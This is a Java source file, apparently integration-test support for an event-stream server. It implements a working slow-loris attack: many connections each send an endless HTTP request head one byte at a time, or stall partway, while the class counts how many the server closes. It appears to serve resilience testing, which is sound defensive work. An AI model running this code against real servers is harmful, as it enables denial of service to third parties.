package io.eventstream.it.support;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.ClosedSelectorException;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A slow-loris attack: many connections that send a request head one byte at a time, a byte every few seconds, and
 * never finish it. Two threads dribble the bytes and one selector notices which connections the server closed (a read
 * of -1, a reset, or a write that fails), so a thousand connections take three threads, not a thousand.
 */
public final class SlowLoris implements AutoCloseable {

    private final List<Attacker> attackers = new ArrayList<>();
    private final ScheduledExecutorService dribblers = Executors.newScheduledThreadPool(2, daemon("slow-loris-dribble"));
    private final Selector selector;
    private final Thread watcher;
    private final AtomicInteger closedByServer = new AtomicInteger();
    private final AtomicInteger answered = new AtomicInteger();
    private final long minMillis;
    private final long maxMillis;

    /** One connection: its channel, the head it is sending, and how far it got. */
    private final class Attacker {
        final SocketChannel channel;
        final byte[] head;
        int sent;
        volatile boolean closed;

        Attacker(SocketChannel channel, byte[] head) {
            this.channel = channel;
            this.head = head;
        }

        // Sends the next byte and schedules the one after it; the head never ends (its last header grows forever).
        synchronized void dribble() {
            if (closed) {
                return;
            }
            try {
                ByteBuffer next = ByteBuffer.wrap(head, Math.min(sent, head.length - 1), 1);
                if (channel.write(next) == 1 && sent < head.length - 1) {
                    sent++;
                }
                dribblers.schedule(this::dribble, ThreadLocalRandom.current().nextLong(minMillis, maxMillis + 1), TimeUnit.MILLISECONDS);
            } catch (IOException e) {
                serverClosed(); // reset by the server
            }
        }

        synchronized int sentSoFar() {
            return sent;
        }

        void serverClosed() {
            synchronized (this) {
                if (closed) {
                    return;
                }
                closed = true;
            }
            closedByServer.incrementAndGet();
            try {
                channel.close();
            } catch (IOException e) {
                // closing what the server closed
            }
        }
    }

    private SlowLoris(long minMillis, long maxMillis) throws IOException {
        this.minMillis = minMillis;
        this.maxMillis = maxMillis;
        this.selector = Selector.open();
        this.watcher = new Thread(this::watch, "slow-loris-watch");
        this.watcher.setDaemon(true);
    }

    /**
     * Opens {@code connections} connections to {@code server} and starts each sending {@code GET <target>} one byte
     * every {@code min} to {@code max}; returns once all are connected.
     */
    public static SlowLoris attack(InetSocketAddress server, String target, int connections, Duration min, Duration max)
            throws IOException {
        SlowLoris loris = connect(server, target, connections, min, max);
        for (Attacker attacker : loris.attackers) {
            // Spread over the first interval, so the server sees a steady trickle rather than waves.
            loris.dribblers.schedule(attacker::dribble, ThreadLocalRandom.current().nextLong(loris.maxMillis), TimeUnit.MILLISECONDS);
        }
        return loris;
    }

    /**
     * Opens {@code connections} connections that each send the first part of a request head at once (up to the middle
     * of a header) and then nothing more: a head that stalls rather than dribbles.
     */
    public static SlowLoris stalled(InetSocketAddress server, String target, int connections) throws IOException {
        SlowLoris loris = connect(server, target, connections, Duration.ZERO, Duration.ZERO);
        for (Attacker attacker : loris.attackers) {
            int part = new String(attacker.head, StandardCharsets.US_ASCII).indexOf(STALL) + STALL.length();
            ByteBuffer first = ByteBuffer.wrap(attacker.head, 0, part);
            while (first.hasRemaining()) {
                attacker.channel.write(first); // a few dozen bytes into an empty send buffer: written at once
            }
            attacker.sent = part;
        }
        return loris;
    }

    // The last header's value is where the head stalls: a byte at a time, as long as the attack lasts.
    private static final String STALL = "X-Slow-Loris: ";

    private static SlowLoris connect(InetSocketAddress server, String target, int connections, Duration min, Duration max)
            throws IOException {
        SlowLoris loris = new SlowLoris(min.toMillis(), max.toMillis());
        String head = "GET " + target + " HTTP/1.1\r\nHost: " + server.getHostString() + ":" + server.getPort()
                + "\r\nAccept: text/event-stream\r\n" + STALL + "a".repeat(4096);
        for (int i = 0; i < connections; i++) {
            SocketChannel channel = SocketChannel.open(server);
            channel.configureBlocking(false);
            Attacker attacker = loris.new Attacker(channel, head.getBytes(StandardCharsets.US_ASCII));
            channel.register(loris.selector, SelectionKey.OP_READ, attacker);
            loris.attackers.add(attacker);
        }
        loris.watcher.start();
        return loris;
    }

    private void watch() {
        ByteBuffer buffer = ByteBuffer.allocate(4096);
        try {
            while (selector.isOpen()) {
                selector.select(500);
                for (SelectionKey key : selector.selectedKeys()) {
                    Attacker attacker = (Attacker) key.attachment();
                    try {
                        buffer.clear();
                        int read = attacker.channel.read(buffer);
                        if (read > 0) {
                            answered.incrementAndGet(); // e.g. a 408 or 400 before the close
                            continue;
                        }
                        if (read < 0) {
                            key.cancel();
                            attacker.serverClosed();
                        }
                    } catch (IOException e) {
                        key.cancel();
                        attacker.serverClosed();
                    }
                }
                selector.selectedKeys().clear();
            }
        } catch (IOException | ClosedSelectorException e) {
            // closed by close()
        }
    }

    /** How many connections the server has closed so far. */
    public int closedByServer() {
        return closedByServer.get();
    }

    /** How many times the server sent something on a connection (an error status, say) before closing it. */
    public int answers() {
        return answered.get();
    }

    /** How many connections are still open. */
    public int open() {
        return (int) attackers.stream().filter(a -> !a.closed).count();
    }

    /** The fewest and the most bytes the open connections have sent so far. */
    public String progress() {
        return attackers.stream().filter(a -> !a.closed).mapToInt(Attacker::sentSoFar).summaryStatistics().toString();
    }

    /** Waits until every connection still open has sent at least {@code bytes} bytes; false when the time ran out first. */
    public boolean awaitEverySent(int bytes, Duration timeout) throws InterruptedException {
        long deadline = System.nanoTime() + timeout.toNanos();
        while (attackers.stream().anyMatch(a -> !a.closed && a.sentSoFar() < bytes)) {
            if (System.nanoTime() > deadline) {
                return false;
            }
            Thread.sleep(200); // the dribblers count; nothing to wait on
        }
        return true;
    }

    /** Waits until the server has closed every connection; false when the time ran out first. */
    public boolean awaitAllClosedByServer(Duration timeout) throws InterruptedException {
        long deadline = System.nanoTime() + timeout.toNanos();
        while (open() > 0) {
            if (System.nanoTime() > deadline) {
                return false;
            }
            Thread.sleep(200); // the watcher counts; nothing to wait on
        }
        return true;
    }

    /** Ends the attack: the connections still open are closed by the client. */
    @Override
    public void close() throws IOException {
        dribblers.shutdownNow();
        selector.close();
        for (Attacker attacker : attackers) {
            synchronized (attacker) {
                attacker.closed = true;
            }
            attacker.channel.close();
        }
    }

    private static java.util.concurrent.ThreadFactory daemon(String name) {
        return runnable -> {
            Thread thread = new Thread(runnable, name);
            thread.setDaemon(true);
            return thread;
        };
    }
}
